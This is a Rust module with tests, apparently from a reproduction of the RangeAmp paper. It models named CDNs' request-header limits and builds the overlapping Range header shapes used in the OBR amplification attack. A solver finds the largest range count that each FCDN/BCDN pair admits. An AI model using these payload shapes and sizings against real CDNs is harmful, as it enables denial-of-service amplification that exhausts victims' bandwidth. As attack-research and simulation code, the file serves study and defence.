//! Request-header size limits and the OBR max-n solver (paper §V-C).
//!
//! The OBR amplification factor is proportional to the number of
//! overlapping ranges `n`, and `n` is bounded by the request-header limits
//! of both cascaded CDNs: "the maximum length of the Range header finally
//! determines the upperbound of the amplification factor" (§IV-C). The
//! paper measured:
//!
//! * Akamai: ≤ 32 KB total request header block,
//! * StackPath: ≈ 81 KB total,
//! * CDN77 / CDNsun: ≤ 16 KB for a single header,
//! * Cloudflare: `RL + 2·HHL + RHL ≤ 32411` (request line, Host line,
//!   Range line),
//! * Azure: at most 64 ranges in a `Range` header.

use rangeamp_http::range::{ByteRangeSpec, RangeHeader};
use rangeamp_http::Request;

/// A CDN's request-header size limits.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct HeaderLimits {
    /// Maximum total size of the request header block in bytes.
    pub total_header_bytes: Option<u64>,
    /// Maximum size of any single header line (name + `": "` + value +
    /// CRLF) in bytes.
    pub single_header_bytes: Option<u64>,
    /// Cloudflare's measured budget: request line + 2 × Host line +
    /// Range line must not exceed this many bytes.
    pub cloudflare_budget: Option<u64>,
    /// Maximum number of ranges in a `Range` header (Azure: 64).
    pub max_ranges: Option<usize>,
}

impl HeaderLimits {
    /// No limits (for synthetic baselines).
    pub fn unlimited() -> HeaderLimits {
        HeaderLimits::default()
    }

    /// Whether `req` passes these limits. `range` is the request's
    /// `Range` header as the caller parsed it (`None` when absent or
    /// invalid); only its spec count is checked here.
    pub fn admits(&self, req: &Request, range: Option<&RangeHeader>) -> bool {
        if let Some(max) = self.total_header_bytes {
            if req.headers().wire_len() > max {
                return false;
            }
        }
        if let Some(max) = self.single_header_bytes {
            for (name, value) in req.headers().iter() {
                let line = name.as_str().len() as u64 + 2 + value.len() as u64 + 2;
                if line > max {
                    return false;
                }
            }
        }
        if let Some(budget) = self.cloudflare_budget {
            let request_line = req.request_line_len();
            let host_line = header_line_len(req, "host");
            let range_line = header_line_len(req, "range");
            if request_line + 2 * host_line + range_line > budget {
                return false;
            }
        }
        if let (Some(max), Some(range)) = (self.max_ranges, range) {
            if range.specs().len() > max {
                return false;
            }
        }
        true
    }
}

fn header_line_len(req: &Request, name: &str) -> u64 {
    req.headers()
        .get(name)
        .map(|v| name.len() as u64 + 2 + v.len() as u64 + 2)
        .unwrap_or(0)
}

/// The exploited multi-range shapes of Table V, column 3.
///
/// Which shape works against a given FCDN follows from Table II: CDN77
/// requires a leading suffix range, CDNsun requires the first range to
/// start at ≥ 1, Cloudflare and StackPath accept all-zero open ranges.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum ObrRangeCase {
    /// `bytes=0-,0-,...,0-` (Cloudflare, StackPath as FCDN).
    AllZeroOpen,
    /// `bytes=-1024,0-,...,0-` (CDN77 as FCDN).
    SuffixThenZero,
    /// `bytes=1-,0-,...,0-` (CDNsun as FCDN).
    OneThenZero,
}

impl ObrRangeCase {
    /// Builds the exploited header with `n` total ranges, as runs: the
    /// `n` specs are never built one by one.
    ///
    /// # Panics
    ///
    /// Panics if `n == 0` (or `n < 2` for the mixed shapes, which need a
    /// leading element plus at least one `0-`).
    pub fn header(&self, n: usize) -> RangeHeader {
        assert!(n > 0, "need at least one range");
        let lead = match self {
            ObrRangeCase::AllZeroOpen => return RangeHeader::overlapping(n),
            ObrRangeCase::SuffixThenZero => ByteRangeSpec::Suffix { len: 1024 },
            ObrRangeCase::OneThenZero => ByteRangeSpec::From { first: 1 },
        };
        assert!(n >= 2, "shape needs a leading element");
        RangeHeader::from_runs([(lead, 1), (ByteRangeSpec::From { first: 0 }, n - 1)])
            .expect("exploited shapes are valid")
    }

    /// Human-readable form used in reports (Table V column 3).
    pub fn describe(&self) -> &'static str {
        match self {
            ObrRangeCase::AllZeroOpen => "bytes=0-,0-,...,0-",
            ObrRangeCase::SuffixThenZero => "bytes=-1024,0-,...,0-",
            ObrRangeCase::OneThenZero => "bytes=1-,0-,...,0-",
        }
    }
}

/// Finds the largest `n` for which the exploited request passes both the
/// FCDN's and the BCDN's limits — the "max n" column of Table V.
///
/// `path` and `host` are the attack request's target and Host header
/// (their lengths participate in Cloudflare's budget).
/// `forwarded_extra_headers` are the headers the FCDN adds on the
/// forwarded hop (at least its `Via` line), which consume part of the
/// BCDN's budget.
pub fn max_overlapping_ranges(
    case: ObrRangeCase,
    path: &str,
    host: &str,
    fcdn: &HeaderLimits,
    bcdn: &HeaderLimits,
    forwarded_extra_headers: &[(&str, &str)],
) -> usize {
    let admits = |n: usize| -> bool {
        let range = case.header(n);
        let req = Request::get(path)
            .header("Host", host.to_string())
            .header("Range", range.header_value())
            .build();
        if !fcdn.admits(&req, Some(&range)) {
            return false;
        }
        let mut forwarded = req.clone();
        for (name, value) in forwarded_extra_headers {
            forwarded.headers_mut().append(*name, value.to_string());
        }
        bcdn.admits(&forwarded, Some(&range))
    };
    if !admits(2) {
        return 0;
    }
    // Exponential probe, then binary search the boundary.
    let mut lo = 2usize;
    let mut hi = 4usize;
    while admits(hi) {
        lo = hi;
        hi *= 2;
        if hi > 1 << 22 {
            break; // unlimited profiles: cap the search
        }
    }
    while lo + 1 < hi {
        let mid = lo + (hi - lo) / 2;
        if admits(mid) {
            lo = mid;
        } else {
            hi = mid;
        }
    }
    lo
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Whether `limits` admit a request carrying `range`.
    fn admits(limits: &HeaderLimits, range: &str) -> bool {
        let req = Request::get("/1KB.bin")
            .header("Host", "victim.example")
            .header("Range", range.to_string())
            .build();
        limits.admits(&req, RangeHeader::parse(range).ok().as_ref())
    }

    #[test]
    fn unlimited_admits_everything() {
        let limits = HeaderLimits::unlimited();
        let huge = ObrRangeCase::AllZeroOpen.header(100_000).to_string();
        assert!(admits(&limits, &huge));
    }

    #[test]
    fn total_limit_rejects_oversized_blocks() {
        let limits = HeaderLimits {
            total_header_bytes: Some(200),
            ..HeaderLimits::default()
        };
        assert!(admits(&limits, "bytes=0-0"));
        let big = ObrRangeCase::AllZeroOpen.header(100).to_string();
        assert!(!admits(&limits, &big));
    }

    #[test]
    fn single_header_limit_meters_each_line() {
        let limits = HeaderLimits {
            single_header_bytes: Some(64),
            ..HeaderLimits::default()
        };
        assert!(admits(&limits, "bytes=0-0"));
        let big = ObrRangeCase::AllZeroOpen.header(32).to_string();
        assert!(!admits(&limits, &big));
    }

    #[test]
    fn max_ranges_counts_specs() {
        let limits = HeaderLimits {
            max_ranges: Some(64),
            ..HeaderLimits::default()
        };
        assert!(admits(
            &limits,
            &ObrRangeCase::AllZeroOpen.header(64).to_string()
        ));
        assert!(!admits(
            &limits,
            &ObrRangeCase::AllZeroOpen.header(65).to_string()
        ));
    }

    #[test]
    fn cloudflare_budget_formula() {
        let limits = HeaderLimits {
            cloudflare_budget: Some(32_411),
            ..HeaderLimits::default()
        };
        // RL("GET /1KB.bin HTTP/1.1\r\n")=23, HHL("Host: victim.example\r\n")=22.
        // Range line = 7 + (3n+5) + 2 = 3n+14.
        // 23 + 44 + 3n + 14 <= 32411  →  n <= 10776.
        let ok = ObrRangeCase::AllZeroOpen.header(10_776).to_string();
        let too_big = ObrRangeCase::AllZeroOpen.header(10_777).to_string();
        assert!(admits(&limits, &ok));
        assert!(!admits(&limits, &too_big));
    }

    #[test]
    fn case_shapes_render_like_table_v() {
        assert_eq!(
            ObrRangeCase::AllZeroOpen.header(3).to_string(),
            "bytes=0-,0-,0-"
        );
        assert_eq!(
            ObrRangeCase::SuffixThenZero.header(3).to_string(),
            "bytes=-1024,0-,0-"
        );
        assert_eq!(
            ObrRangeCase::OneThenZero.header(3).to_string(),
            "bytes=1-,0-,0-"
        );
    }

    #[test]
    fn solver_matches_manual_boundaries() {
        // CDN77-as-FCDN (16 KB single header) against an unlimited BCDN,
        // suffix-then-zero shape: line = 7 + (3n+8) + 2 = 3n+17 <= 16384
        // → n = 5455, the paper's Table V value.
        let cdn77 = HeaderLimits {
            single_header_bytes: Some(16 * 1024),
            ..HeaderLimits::default()
        };
        let n = max_overlapping_ranges(
            ObrRangeCase::SuffixThenZero,
            "/1KB.bin",
            "victim.example",
            &cdn77,
            &HeaderLimits::unlimited(),
            &[],
        );
        assert_eq!(n, 5455);
    }

    #[test]
    fn solver_respects_the_tighter_side() {
        let azure = HeaderLimits {
            max_ranges: Some(64),
            ..HeaderLimits::default()
        };
        let loose = HeaderLimits {
            total_header_bytes: Some(1 << 20),
            ..HeaderLimits::default()
        };
        let n = max_overlapping_ranges(
            ObrRangeCase::AllZeroOpen,
            "/1KB.bin",
            "victim.example",
            &loose,
            &azure,
            &[],
        );
        assert_eq!(n, 64);
    }

    #[test]
    fn solver_returns_zero_when_nothing_fits() {
        let tiny = HeaderLimits {
            total_header_bytes: Some(8),
            ..HeaderLimits::default()
        };
        let n = max_overlapping_ranges(
            ObrRangeCase::AllZeroOpen,
            "/1KB.bin",
            "victim.example",
            &tiny,
            &HeaderLimits::unlimited(),
            &[],
        );
        assert_eq!(n, 0);
    }
}
